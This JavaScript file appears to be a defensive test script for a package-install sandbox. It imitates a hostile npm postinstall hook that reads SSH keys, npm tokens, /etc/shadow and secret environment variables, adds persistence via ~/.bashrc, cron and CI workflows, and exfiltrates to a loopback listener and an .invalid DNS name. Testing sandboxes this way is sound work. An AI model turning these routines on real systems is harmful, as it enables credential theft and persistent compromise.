// steal.js: what a hostile postinstall script does, aimed only at local, fake targets.
//
// Each attempt imitates a real incident (see README.md) and prints one line:
//   BLOCKED  the attempt failed; the errno code says what stopped it
//   LEAKED   the attempt reached something the host would feel
//   WROTE    it wrote somewhere that is harmless only if throwaway (scripts/demo.sh checks)
//   SPAWNED  it left a process behind (safeinstall should kill it and report a survivor)
//   ANSWERED a DNS resolver answered; scripts/demo.sh checks the report to see whose
// Nothing is sent beyond 127.0.0.1, and the only name looked up ends in .invalid.
'use strict';

const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const http = require('node:http');
const dns = require('node:dns');
const net = require('node:net');
const { spawn } = require('node:child_process');

// Safety catch: run bare, this script really would append to your ~/.bashrc and, as root,
// drop files in /usr/local/bin and /etc/cron.d. scripts/demo.sh arms a throwaway copy.
if (!fs.existsSync(path.join(__dirname, 'ARMED'))) {
  console.log('steal.js: not armed, doing nothing (see README.md)');
  process.exit(0);
}

const HOME = os.homedir();
const WHY = {
  ENOENT: 'no such file',
  EROFS: 'read-only file system',
  EACCES: 'permission denied',
  EPERM: 'operation not permitted',
  ECONNREFUSED: 'nothing listening on this loopback',
  ENETUNREACH: 'no route out',
  EAI_AGAIN: 'no DNS server reachable',
  ETIMEDOUT: 'no answer',
};
const loot = {}; // what gets "sent home": names and sizes only, never values
let leaks = 0;

const say = (status, what, detail) => console.log(`  ${status.padEnd(8)} ${what.padEnd(36)} ${detail}`);
const leaked = (what, detail) => { leaks++; say('LEAKED', what, detail); };
const blocked = (what, err) => {
  const code = err.code || String(err.message || err);
  say('BLOCKED', what, WHY[code] ? `${code} (${WHY[code]})` : code);
};
const shown = (file) => file.replace(HOME, '~');

// Token theft: SSH keys, npm publish tokens (Shai-Hulud, s1ngularity), /etc/shadow.
function stealFile(file) {
  const what = `read ${shown(file)}`;
  try {
    const data = fs.readFileSync(file, 'utf8');
    if (data.length === 0) return say('BLOCKED', what, 'reads as empty (hidden)');
    // A config file can be carried over with its credentials removed: only a secret is loot.
    if (!/PRIVATE KEY|_authToken=\S|_password=\S|^[^:\n]+:\$/m.test(data))
      return say('BLOCKED', what, `${data.length} bytes without any credential in them`);
    loot[file] = data.length;
    leaked(what, `got ${data.length} bytes`);
  } catch (err) {
    blocked(what, err);
  }
}

// Secret inventory from the environment (s1ngularity, Shai-Hulud's CI token harvest).
function stealEnv(name) {
  const value = process.env[name];
  if (value === undefined) return say('BLOCKED', `read $${name}`, 'not in the environment');
  loot[name] = value.length;
  leaked(`read $${name}`, `got ${value.length} chars, starting ${JSON.stringify(value.slice(0, 4))}`);
}

// The sandbox's own pid 1 was cloned from the supervisor, which holds the invoker's whole
// environment and whatever descriptors its shell left open: a way around every scrubbing.
function stealFromPid1() {
  try {
    const env = fs.readFileSync('/proc/1/environ', 'utf8');
    if (/TOKEN|SECRET/.test(env)) leaked('read /proc/1/environ', `got ${env.length} bytes of the invoker's environment`);
    else say('BLOCKED', 'read /proc/1/environ', `${env.length} bytes, no secret in them`);
  } catch (err) {
    blocked('read /proc/1/environ', err);
  }
  let fds;
  try {
    fds = fs.readdirSync('/proc/1/fd');
  } catch (err) {
    return blocked('re-open /proc/1/fd/*', err);
  }
  const opened = fds.filter((fd) => { try { fs.closeSync(fs.openSync(`/proc/1/fd/${fd}`, 'r')); return true; } catch { return false; } });
  if (opened.length > 0) leaked('re-open /proc/1/fd/*', `opened fd ${opened.join(', ')} of pid 1`);
  else say('BLOCKED', 're-open /proc/1/fd/*', 'none could be opened');
}

// A daemon's unix socket on the host (dbus, a database, a container engine) is a way out
// that no network namespace closes. scripts/demo.sh listens on this one.
function connectHostSocket() {
  const socket = '/run/safeinstall-demo.sock';
  const what = `connect ${socket}`;
  return new Promise((resolve) => {
    const conn = net.connect(socket, () => {
      leaked(what, 'connected to the host daemon');
      conn.end('hello from the sandbox\n');
      resolve();
    });
    conn.on('error', (err) => { blocked(what, err); resolve(); });
  });
}

// Persistence in a shell rc file (s1ngularity appended `sudo shutdown -h 0` to ~/.bashrc).
function persistInBashrc() {
  const rc = path.join(HOME, '.bashrc');
  const existed = fs.existsSync(rc);
  try {
    fs.appendFileSync(rc, '\n# safeinstall demo: a real attack would start its payload here\n');
    if (existed) leaked('append to ~/.bashrc', 'appended to an existing ~/.bashrc (the real home?)');
    else say('WROTE', 'append to ~/.bashrc', `created ${rc} in an empty home (throwaway?)`);
  } catch (err) {
    blocked('append to ~/.bashrc', err);
  }
}

// A CI workflow planted in the project (Shai-Hulud's .github/workflows/shai-hulud-workflow.yml
// ran on the victim's next push, with the repository's secrets).
function plantWorkflow() {
  const project = process.env.INIT_CWD || __dirname;
  const file = path.join(project, '.github', 'workflows', 'safeinstall-demo.yml');
  try {
    fs.mkdirSync(path.dirname(file), { recursive: true });
    fs.writeFileSync(file, '# safeinstall demo: a real attack would run its payload in CI here\non: push\n');
    say('WROTE', 'plant .github/workflows in project', 'written (harmless only if staged and held)');
  } catch (err) {
    blocked('plant .github/workflows in project', err);
  }
}

// Dropping a binary on PATH and a cron job (ua-parser-js / coa style downloaders).
function dropFile(file, content) {
  try {
    fs.writeFileSync(file, content, { mode: 0o755 });
    leaked(`write ${file}`, 'written');
  } catch (err) {
    blocked(`write ${file}`, err);
  }
}

// Exfiltration over HTTP to the "attacker" (here: a listener on the host's loopback).
function exfiltrateHttp() {
  const fromEnv = process.env.DEMO_EXFIL_PORT;
  const port = Number(fromEnv || 8765);
  const what = `POST http://127.0.0.1:${port}/`;
  say('INFO', 'exfil port', fromEnv ? `$DEMO_EXFIL_PORT=${fromEnv} got through` : '$DEMO_EXFIL_PORT withheld, using 8765');
  return new Promise((resolve) => {
    const body = JSON.stringify({ host: os.hostname(), loot });
    const req = http.request({ host: '127.0.0.1', port, method: 'POST', path: '/collect', timeout: 3000 }, (res) => {
      leaked(what, `the listener answered HTTP ${res.statusCode}`);
      res.resume();
      resolve();
    });
    req.on('timeout', () => req.destroy(Object.assign(new Error('timeout'), { code: 'ETIMEDOUT' })));
    req.on('error', (err) => { blocked(what, err); resolve(); });
    req.end(body);
  });
}

// DNS exfiltration (Birsan's dependency-confusion packages sent data as DNS labels).
// ENOTFOUND means some resolver answered NXDOMAIN: safeinstall's own DNS stub (which refuses
// and records the name) or a real one. Only the report can tell, so scripts/demo.sh checks it.
function exfiltrateDns() {
  const name = 'exfil.example.invalid';
  return new Promise((resolve) => {
    const timer = setTimeout(() => { blocked(`resolve ${name}`, { code: 'ETIMEDOUT' }); resolve(); }, 5000);
    dns.lookup(name, (err, address) => {
      clearTimeout(timer);
      if (!err) leaked(`resolve ${name}`, `resolved to ${address}`);
      else if (err.code === 'ENOTFOUND') say('ANSWERED', `resolve ${name}`, 'ENOTFOUND: some resolver said NXDOMAIN (the demo checks which)');
      else blocked(`resolve ${name}`, err);
      resolve();
    });
  });
}

// A detached background "miner" that outlives the install (ua-parser-js dropped XMRig).
function startMiner() {
  const miner = spawn(process.execPath, ['-e', '/* safeinstall-demo-miner */ setInterval(()=>{},1000)'],
    { detached: true, stdio: 'ignore' });
  miner.unref();
  say('SPAWNED', 'detached background miner', `pid ${miner.pid}, left running on purpose`);
}

async function main() {
  console.log(`steal.js: running as uid ${process.getuid()} with HOME=${HOME}`);
  stealFile(path.join(HOME, '.ssh', 'id_ed25519'));
  stealFile(path.join(HOME, '.npmrc'));
  stealFile('/etc/shadow');
  ['GITHUB_TOKEN', 'NPM_TOKEN', 'AWS_SECRET_ACCESS_KEY'].forEach(stealEnv);
  stealFromPid1();
  await connectHostSocket();
  persistInBashrc();
  plantWorkflow();
  dropFile('/usr/local/bin/evil', '#!/bin/sh\necho "safeinstall demo: this file should not exist"\n');
  dropFile('/etc/cron.d/evil', '# safeinstall demo: a real attack would schedule its payload here\n');
  await exfiltrateHttp();
  await exfiltrateDns();
  startMiner();
  console.log(`steal.js: done, ${leaks} leaked`);
  // Real malware exits 0 so that the install looks normal.
}

main();
